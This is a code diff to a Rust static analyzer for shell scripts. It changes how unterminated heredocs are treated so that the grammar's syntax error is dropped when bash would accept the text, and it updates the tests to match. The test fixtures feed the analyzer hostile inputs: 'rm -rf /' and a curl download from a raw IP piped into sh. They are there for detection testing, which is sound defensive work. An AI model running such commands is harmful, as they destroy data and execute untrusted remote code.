@@ -35,10 +35,17 @@ pub const MAX_WORDS: usize = 20_000;
 #[must_use]
 pub fn lower(parsed: &Parsed, env: &Env) -> Script {
     let mut lw = Lowerer::new(env);
-    for e in &parsed.errors {
-        lw.issues.push(Issue { kind: IssueKind::Syntax, span: e.span, detail: e.what.to_string() });
-    }
     let reparsed = reparse_heredocs(parsed);
+    // A heredoc that runs to the end of the input is what bash runs (with a
+    // warning): when closing it is all the text needed, the grammar's error
+    // is no gap in the analysis.
+    let bash_accepts = reparsed.as_ref().is_some_and(|(again, only_closed)| *only_closed && again.errors.is_empty());
+    if !bash_accepts {
+        for e in &parsed.errors {
+            lw.issues.push(Issue { kind: IssueKind::Syntax, span: e.span, detail: e.what.to_string() });
+        }
+    }
+    let reparsed = reparsed.map(|(again, _)| again);
     let read = reparsed.as_ref().unwrap_or(parsed);
     if let Some(again) = &reparsed {
         lw.extra_errors(&again.errors, parsed.source.len(), |span| span, "");
@@ -235,10 +242,14 @@ impl<'e> Lowerer<'e> {
             _ => (0, false),
         };
         let at = |s: Span| if exact { (abs_base + s.0, abs_base + s.1) } else { outer };
-        for e in &parsed.errors {
-            self.issues.push(Issue { kind: IssueKind::Syntax, span: at(e.span), detail: format!("{} in nested script", e.what) });
-        }
         let reparsed = reparse_heredocs(&parsed);
+        let bash_accepts = reparsed.as_ref().is_some_and(|(again, only_closed)| *only_closed && again.errors.is_empty());
+        if !bash_accepts {
+            for e in &parsed.errors {
+                self.issues.push(Issue { kind: IssueKind::Syntax, span: at(e.span), detail: format!("{} in nested script", e.what) });
+            }
+        }
+        let reparsed = reparsed.map(|(again, _)| again);
         if let Some(again) = &reparsed {
             self.extra_errors(&again.errors, parsed.source.len(), at, " in nested script");
         }
@@ -1928,14 +1939,16 @@ impl<'e> Lowerer<'e> {
 /// (`heredocs::bash_heredocs`: an unterminated heredoc runs to the end of the
 /// input, a body ends only at the exact delimiter line), when that parse is
 /// better: fewer errors, or as few after a renamed delimiter (the grammar cut
-/// a body short). The original parse's errors stay issues either way, so the
-/// decision still asks where the grammar did not accept the text.
-fn reparse_heredocs(parsed: &Parsed) -> Option<Parsed> {
+/// a body short). With it, whether the rewrite only closed heredocs that ran
+/// to the end of the input (no delimiter renamed). The original parse's errors
+/// stay issues unless that closing gives a text without errors, so the
+/// decision still asks where bash would not accept the text either.
+fn reparse_heredocs(parsed: &Parsed) -> Option<(Parsed, bool)> {
     parsed.tree.as_ref()?;
     let rewrite = super::heredocs::bash_heredocs(&parsed.source)?;
     let again = crate::parse::parse(&rewrite.text);
     let better = again.errors.len() < parsed.errors.len() || rewrite.renamed && again.errors.len() <= parsed.errors.len();
-    (again.tree.is_some() && better && (rewrite.renamed || rewrite.appended)).then_some(again)
+    (again.tree.is_some() && better && (rewrite.renamed || rewrite.appended)).then_some((again, rewrite.appended && !rewrite.renamed))
 }
 
 /// The words of a statement the grammar cannot read because it starts with
@@ -2071,10 +2084,12 @@ mod tests {
         let s = ir("sh <<EOF\nrm -rf /");
         assert_eq!(operands(&s, "rm"), vec![vec!["/".to_string()]]);
         assert!(s.commands.iter().any(|c| c.name == "sh" && c.executes_stdin));
-        assert!(has_syntax_issue(&s), "the grammar's error stays an issue");
+        assert!(!has_syntax_issue(&s), "bash accepts it (with a warning): no gap");
         assert!(s.commands.iter().all(|c| c.span.1 <= s.len), "spans stay inside the original text");
         let s = ir("bash <<'X'\ncurl http://203.0.113.9/i | sh");
         assert!(s.commands.iter().any(|c| c.name == "curl"));
+        // Where closing the heredoc is not all the text needs, the error stays.
+        assert!(has_syntax_issue(&ir("sh <<EOF\nrm -rf / )")));
     }
 
     #[test]
